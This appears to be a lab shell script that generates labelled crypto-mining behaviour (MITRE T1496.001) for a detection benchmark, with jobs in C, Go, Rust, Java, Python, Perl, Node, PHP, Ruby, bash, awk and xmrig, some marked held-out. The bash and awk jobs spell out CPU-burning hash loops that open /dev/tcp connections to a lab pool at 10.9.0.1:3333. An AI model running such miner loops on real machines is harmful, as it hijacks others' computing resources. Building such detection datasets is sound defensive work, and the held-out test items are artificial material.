# Hashes, with and without a pool. Some make no calls for seconds on end.
behaviour crypto-miner T1496.001
each() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { exec python3 /lab/src/pool.py 3333; }"; }
job mine_c_mute c;         mine_c_mute() { exec "$(bin mine)" mute 1 100000 0; }
job mine_c_nap c;          mine_c_nap() { exec "$(bin mine)" nap "$(within 1 2)" "$(pick 3000001 20000000 50000001)" "$(pick 500 1000 20000)"; }
each mine_c_pool c;        mine_c_pool() { exec "$(bin mine)" nap "$(within 1 3)" "$(pick 1000001 30000000 5000000)" "$(pick 300 500 4000)" 3333; }
each mine_c_pool_mute c;   mine_c_pool_mute() { exec "$(bin mine)" mute "$(within 1 2)" 9000001 0 3333; }
each mine_c_page c held-out; mine_c_page() { exec "$(bin mine)" page "$(within 1 3)" "$(pick 200000 1000001)" "$(pick 0 1000)" 3333; }
each mine_go go;           mine_go() { exec "$(bin bad-go)" mine "$(within 1 3)" 3333; }
each mine_rust rust held-out; mine_rust() { exec "$(bin bad-rs)" mine "$(within 1 3)" 3333; }
each mine_java java;       mine_java() { exec "$(as java)" -cp /lab/java Bad mine "$(within 1 3)" 3333; }
each mine_python python;   mine_python() { exec "$(as python3)" /lab/src/bad.py mine "$(within 1 3)" 3333 sha; }
each mine_python_scrypt python; mine_python_scrypt() { exec "$(as python3)" /lab/src/bad.py mine "$(within 1 3)" 3333 scrypt; }
each mine_python_process python held-out; mine_python_process() { exec "$(as python3)" /lab/src/bad.py mine "$(within 1 3)" 3333 process; }
each mine_perl perl;       mine_perl() { exec "$(as perl)" /lab/src/bad.pl mine 3333 "$(within 1 3)"; }
each mine_node node;       mine_node() { exec "$(as node)" /lab/src/bad.js mine "$(within 1 2)" 3333; }
each mine_php php;         mine_php() { exec "$(as php)" /lab/src/bad.php mine 3333; }
each mine_ruby ruby held-out; mine_ruby() { exec "$(as ruby)" /lab/src/bad.rb mine "$(within 1 2)" 3333; }
each mine_bash shell;      mine_bash() { exec 5<>/dev/tcp/10.9.0.1/3333; echo '{"method":"login"}' >&5; (while read -r l <&5; do :; done) & h=1; while :; do for ((i = 0; i < 200000; i++)); do h=$(((h * 33 ^ i) & 0xffffffff)); done; echo "{\"n\":$h}" >&5; done; }
each mine_awk shell held-out; mine_awk() { "$(as mawk)" 'BEGIN{h=1;while(1){h=(h*1103515245+12345)%2147483648}}' & cat < /dev/tcp/10.9.0.1/3333 >/dev/null; }
job mine_xmrig tool;           mine_xmrig() { while :; do "$(as xmrig)" --bench=1M --randomx-mode=light -t "$(pick 1 2)" --no-color; done; }
